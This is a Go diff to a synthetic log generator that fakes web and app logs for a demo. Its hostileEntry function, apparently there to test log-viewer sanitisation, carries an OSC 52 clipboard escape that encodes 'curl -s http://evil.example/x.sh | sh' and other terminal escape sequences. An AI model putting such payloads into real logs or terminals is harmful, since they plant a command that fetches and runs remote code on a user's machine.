@@ -168,13 +168,25 @@ func (n *logNode) path(role string) string {
 	}
 }
 
+// request draws a method and a path that go together: reads are GETs of
+// any page, writes go to the endpoints that take them.
+func (n *logNode) request(role string) (method, path string) {
+	if n.rng.IntN(100) >= 14 {
+		return "GET", n.path(role)
+	}
+	if role == "api" {
+		return pick(n, []string{"POST", "POST", "PUT", "DELETE"}), pick(n, []string{"/api/v1/orders", "/api/v1/cart", "/api/v1/payments", "/api/v1/session", fmt.Sprintf("/api/v1/cart/items/%d", n.rng.IntN(20000))})
+	}
+	return "POST", pick(n, []string{"/cart", "/checkout", "/login", "/account/orders"})
+}
+
 func (n *logNode) userAgent() string {
 	return pick(n, []string{
 		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
 		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
 		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
 		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
-		"curl/8.5.0", "python-requests/2.32.3", "GoogleHC/1.0",
+		"curl/8.5.0", "python-requests/2.32.3",
 		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
 	})
 }
@@ -203,15 +215,14 @@ func (n *logNode) background(t time.Time) {
 		case r < 22:
 			status = 201
 		}
-		path := n.path(role)
-		if status == 404 {
-			path = pick(n, []string{"/wp-login.php", "/.env", "/.git/config", "/admin/config.php", fmt.Sprintf("/products/%d", 900000+n.rng.IntN(9999))})
-		}
-		method := "GET"
-		if r := n.rng.IntN(100); r < 12 {
-			method = "POST"
-		} else if r < 14 {
-			method = pick(n, []string{"PUT", "DELETE", "HEAD", "OPTIONS"})
+		method, path := n.request(role)
+		switch {
+		case status == 404:
+			method, path = "GET", pick(n, []string{"/wp-login.php", "/.env", "/.git/config", "/admin/config.php", fmt.Sprintf("/products/%d", 900000+n.rng.IntN(9999))})
+		case method == "GET" && status == 201:
+			status = 200
+		case method != "GET" && (status == 304 || status == 301):
+			status = 200
 		}
 		n.access(t, method, path, status, time.Duration(2+n.rng.IntN(180))*time.Millisecond, n.userAgent())
 	case logNginxError:
@@ -313,11 +324,7 @@ func (n *logNode) appLine(t time.Time) {
 		}
 		n.json(t, logApp, sev, f)
 	default: // web, api and pool services: request logs
-		route := n.path(role)
-		method := "GET"
-		if n.rng.IntN(6) == 0 {
-			method = "POST"
-		}
+		method, route := n.request(role)
 		status := 200
 		if n.rng.IntN(25) == 0 {
 			status = 404
@@ -418,7 +425,7 @@ func (n *logNode) failure(t time.Time, b *badCheck) {
 	case b.role == "search":
 		n.elasticError(t, sev, crit)
 	default:
-		if n.rng.IntN(8) == 0 && crit {
+		if n.rng.IntN(12) == 0 && crit {
 			n.syslog(t, sevError, "systemd[1]", fmt.Sprintf("%s.service: Main process exited, code=killed, status=9/KILL", b.role))
 			return
 		}
@@ -442,7 +449,8 @@ func (n *logNode) failingRequest(t time.Time, b *badCheck, crit bool) {
 		n.access(t, "GET", "/health", status, lat, "Consul Health Check")
 		return
 	}
-	n.access(t, pick(n, []string{"GET", "GET", "POST"}), n.path(pick(n, []string{"web", "api"})), status, lat, n.userAgent())
+	method, path := n.request(pick(n, []string{"web", "api"}))
+	n.access(t, method, path, status, lat, n.userAgent())
 }
 
 func (n *logNode) upstreamError(t time.Time, sev ltype.LogSeverity, crit bool) {
@@ -483,8 +491,8 @@ func (n *logNode) appError(t time.Time, sev ltype.LogSeverity, b *badCheck) {
 		"logger": "http", "service": role, "version": n.version(role), "request_id": "req_" + n.hex(16),
 		"user": n.user(), "latency_ms": float64(100000+n.rng.IntN(2900000)) / 100,
 		"error": dep.err, "message": "request failed: " + dep.what, "status": pick(n, []int{500, 503, 504}),
-		"route": n.path(role), "method": "GET",
 	}
+	f["method"], f["route"] = n.request(role)
 	if role == "worker" {
 		f = map[string]any{
 			"logger": "worker", "service": role, "version": n.version(role), "message": "job failed",
@@ -492,7 +500,12 @@ func (n *logNode) appError(t time.Time, sev ltype.LogSeverity, b *badCheck) {
 			"attempt": 1 + n.rng.IntN(5), "error": dep.err,
 		}
 	}
-	if b.status != "critical" {
+	switch {
+	case b.status == "critical":
+	case role == "worker":
+		f["message"] = pick(n, []string{"job running slow, queue backing up", "broker connection blocked, waiting"})
+		f["queue_depth"] = 900 + n.rng.IntN(400)
+	default:
 		f["message"] = pick(n, []string{"slow request", "connection pool exhausted, waiting for a free connection", "upstream latency above SLO"})
 		f["pool_in_use"], f["pool_size"] = 100, 100
 	}
@@ -733,7 +746,9 @@ func (n *logNode) shutdown(ev SimEvent) {
 func (n *logNode) hostileEntry(t time.Time) {
 	k := n.hostileSeq % 10
 	n.hostileSeq++
-	sev := []ltype.LogSeverity{sevInfo, sevWarning, sevError}[n.hostileSeq%3]
+	// Never ERROR or above: in the demo every error lines up with an
+	// incident, hostile nodes included.
+	sev := []ltype.LogSeverity{sevInfo, sevNotice, sevWarning}[n.hostileSeq%3]
 	osc52 := "\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==\x07" // "curl -s http://evil.example/x.sh | sh"
 	switch k {
 	case 0: // clear screen and home cursor in a request line and user agent
@@ -768,7 +783,7 @@ func (n *logNode) hostileEntry(t time.Time) {
 		})
 	case 8: // escape sequences in labels and source location
 		e := n.text(t, logApp, sev, "request from a hostile proxy")
-		e.Labels = map[string]string{"hostname": n.name, "compute.googleapis.com/resource_name": n.name, "x-forwarded-for": "\x1b[2J\x1b[31m203.0.113.9", "note\x1b[7m": "\a"}
+		e.Labels = map[string]string{"hostname": n.name, "x-forwarded-for": "\x1b[2J\x1b[31m203.0.113.9", "note\x1b[7m": "\a"}
 		e.SourceLocation = &loggingpb.LogEntrySourceLocation{File: "\x1b[8mhidden.go", Line: 1, Function: "main.(*T).\x1b]0;x\x07Run"}
 	default: // a wide line: emoji, ZWJ sequences and CJK
 		n.text(t, logApp, sev, strings.Repeat("🔥👩‍💻数据库チーム데이터 ", 200))
